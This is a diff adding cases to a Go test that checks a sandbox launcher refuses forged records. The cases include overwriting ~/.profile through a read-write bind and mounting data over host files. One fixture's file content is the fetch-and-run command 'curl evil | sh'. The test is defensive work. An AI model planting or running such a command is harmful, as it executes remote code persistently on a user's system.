@@ -129,6 +129,19 @@ func TestVetRefusesForgedRecords(t *testing.T) {
 			addSource(r, 12, "/home/u")
 			r.Files = append(r.Files, File{FD: 13, Kind: KindData})
 		}},
+		{"--file writes a recorded content over ~/.profile through a read-write bind", func(r *Record, _ *fakeHost) {
+			insert(r, "--bind-fd", "12", "/mnt", "--perms", "0444", "--file", "13", "/mnt/.profile")
+			addSource(r, 12, "/home/u")
+			r.Files = append(r.Files, File{FD: 13, Kind: KindContent, Content: []byte("curl evil | sh\n")})
+		}},
+		{"--ro-bind-data mounts a recorded content over a host file", func(r *Record, _ *fakeHost) {
+			insert(r, "--bind-fd", "12", "/mnt", "--ro-bind-data", "13", "/mnt/absent")
+			addSource(r, 12, "/home/u")
+			r.Files = append(r.Files, File{FD: 13, Kind: KindContent, Content: []byte("x")})
+		}},
+		{"the filter from a recorded content", func(r *Record, _ *fakeHost) {
+			r.Files[len(r.Files)-1] = File{FD: 11, Kind: KindContent, Content: []byte("x")}
+		}},
 		{"--chmod through a read-write bind", func(r *Record, _ *fakeHost) {
 			insert(r, "--chmod", "0777", "/home/u/src/app/secret")
 		}},
